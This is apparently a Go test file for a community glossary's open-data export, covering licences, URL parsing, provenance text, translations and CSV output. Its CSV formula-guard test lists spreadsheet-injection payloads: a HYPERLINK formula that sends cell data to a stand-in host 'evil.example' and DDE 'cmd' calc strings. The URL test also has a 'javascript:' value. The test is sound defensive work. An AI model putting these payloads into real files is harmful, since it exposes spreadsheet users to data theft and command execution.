package opendata

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"strings"
	"testing"
	"time"

	"wordgarden/server/model"
)

func TestLicenceByID(t *testing.T) {
	for _, l := range Licences {
		if got, err := LicenceByID(l.ID); err != nil || got != l {
			t.Errorf("LicenceByID(%q) = %v, %v", l.ID, got, err)
		}
	}
	if _, err := LicenceByID("OGL"); err == nil {
		t.Error("an unknown licence was taken")
	}
}

func TestParseSiteURL(t *testing.T) {
	for in, want := range map[string]string{
		"https://glossary.example.org":  "https://glossary.example.org",
		"https://glossary.example.org/": "https://glossary.example.org",
		" http://127.0.0.1:8080/ ":      "http://127.0.0.1:8080",
		"https://example.org/glossary/": "https://example.org/glossary",
	} {
		if got, err := ParseSiteURL(in); err != nil || got != want {
			t.Errorf("ParseSiteURL(%q) = %q, %v; want %q", in, got, err, want)
		}
	}
	for _, bad := range []string{"", "glossary.example.org", "ftp://example.org", "https://", "https://example.org/?a=1",
		"https://example.org/#x", "https://user:pw@example.org", "javascript:alert(1)"} {
		if got, err := ParseSiteURL(bad); err == nil {
			t.Errorf("ParseSiteURL(%q) = %q, want an error", bad, got)
		}
	}
}

func TestProvenance(t *testing.T) {
	london, err := time.LoadLocation("Europe/London")
	if err != nil {
		t.Fatal(err)
	}
	site := Site{URL: "https://g.example", Licence: OGL, Location: london}
	late := time.Date(2026, 6, 1, 23, 30, 0, 0, time.UTC) // 2 June in London
	for _, tc := range []struct {
		e    model.GlossaryEntry
		want string
	}{
		{model.GlossaryEntry{Version: model.Version{AuthorRole: "import", AuthorName: "Imported glossary"}},
			"Imported as an agreed wording."},
		{model.GlossaryEntry{Version: model.Version{AuthorRole: "partner", AuthorName: "Sam", OrganisationName: "Southwark Council", Sector: model.Statutory},
			RoundID: 4, Ballots: 1, AgreedAt: late},
			"Written by Sam, Southwark Council (statutory sector). Chosen by residents in vote 4 (1 ballot), 2 June 2026."},
		{model.GlossaryEntry{Version: model.Version{AuthorRole: "facilitator", AuthorName: "Fran"}, RoundID: 5, Ballots: 30, AgreedAt: late},
			"Written by Fran, facilitator. Chosen by residents in vote 5 (30 ballots), 2 June 2026."},
	} {
		if got := site.Provenance(tc.e); got != tc.want {
			t.Errorf("Provenance = %q\nwant %q", got, tc.want)
		}
	}
}

// TestCSVFormulaGuard writes hostile values into every column people
// write, and reads the file back as a spreadsheet would see its cells: no
// cell may start with a character that makes a formula, and each guarded
// cell is its value as written behind one quote.
func TestCSVFormulaGuard(t *testing.T) {
	hostile := []string{
		`=HYPERLINK("https://evil.example/?d="&A1,"Click")`,
		"+1+cmd|' /C calc'!A0",
		"- a markdown list\n- of two items",
		"@SUM(1+1)*cmd|' /C calc'!A0",
		"\t=1+1",
		"\r=1+1",
		"\x00=1+1",
		"'=1+1", // a quote already: guarded too, so one quote always comes off
	}
	at := time.Date(2026, 3, 5, 12, 0, 0, 0, time.UTC)
	var entries []model.GlossaryEntry
	for i, h := range hostile {
		entries = append(entries, model.GlossaryEntry{
			Term: model.Term{Slug: "term-" + string(rune('a'+i)), Title: h},
			Version: model.Version{Summary: h, Markdown: h, AuthorName: h, OrganisationName: h,
				Sector: model.Statutory, AuthorRole: "partner"},
			AgreedAt: at, RoundID: int64(i + 1), Ballots: 3,
		})
	}
	entries = append(entries, model.GlossaryEntry{
		Term:     model.Term{Slug: "plain", Title: "Plain words"},
		Version:  model.Version{Summary: "It's fine - really.", Markdown: "A *plain* wording, 100% safe = fine.", AuthorName: "Sam"},
		AgreedAt: at,
	})
	out, err := CSV(Site{URL: "https://g.example", Licence: OGL}, entries, "")
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(entries)+1 {
		t.Fatalf("%d rows, want %d", len(rows), len(entries)+1)
	}
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r\x00", rune(cell[0])) {
				t.Errorf("cell %q starts with a formula character", cell)
			}
		}
	}
	people := []int{1, 3, 4, 5, 6} // title, summary, definition, author, organisation
	for i, h := range hostile {
		for _, col := range people {
			if got := rows[i+1][col]; got != "'"+h {
				t.Errorf("column %s of %q = %q, want it behind one quote", csvHeader[col], h, got)
			}
		}
	}
	// Cells that start with anything else are as written.
	plain := rows[len(rows)-1]
	if plain[1] != "Plain words" || plain[3] != "It's fine - really." || plain[4] != "A *plain* wording, 100% safe = fine." ||
		plain[0] != "plain" || plain[2] != "https://g.example/terms/plain" || plain[8] != "2026-03-05T12:00:00Z" {
		t.Errorf("an ordinary row changed: %q", plain)
	}
}

// TestWordings says which wordings of a term a file in each language gives.
func TestWordings(t *testing.T) {
	e := model.GlossaryEntry{
		Term:    model.Term{Slug: "gp", Title: "GP practice", AgreedVersionID: 2},
		Version: model.Version{ID: 2, Lang: "en"},
		Translations: []model.GlossaryTranslation{
			{Version: model.Version{ID: 3, Lang: "es", Title: "Consultorio", TranslatesID: 2}},
			{Version: model.Version{ID: 1, Lang: "fr", Title: "Cabinet", TranslatesID: 1}}, // out of date
		},
	}
	for _, tc := range []struct {
		lang string
		want string // lang:id:fallback, ...
	}{
		{"", "en:2:false es:3:false"},
		{"en", "en:2:false"},
		{"es", "es:3:false"},
		{"fr", "en:2:true"},
		{"pt", "en:2:true"},
	} {
		var got []string
		for _, w := range Wordings(&e, tc.lang) {
			got = append(got, fmt.Sprintf("%s:%d:%v", w.Lang, w.Version.ID, w.Fallback))
		}
		if strings.Join(got, " ") != tc.want {
			t.Errorf("Wordings(%q) = %v, want %s", tc.lang, got, tc.want)
		}
	}
	for lang, ok := range map[string]bool{"": true, "en": true, "es": true, "ar": true, "ES": false, "de": false, "es-MX": false} {
		if ValidLang(lang) != ok {
			t.Errorf("ValidLang(%q) = %v", lang, !ok)
		}
	}
}
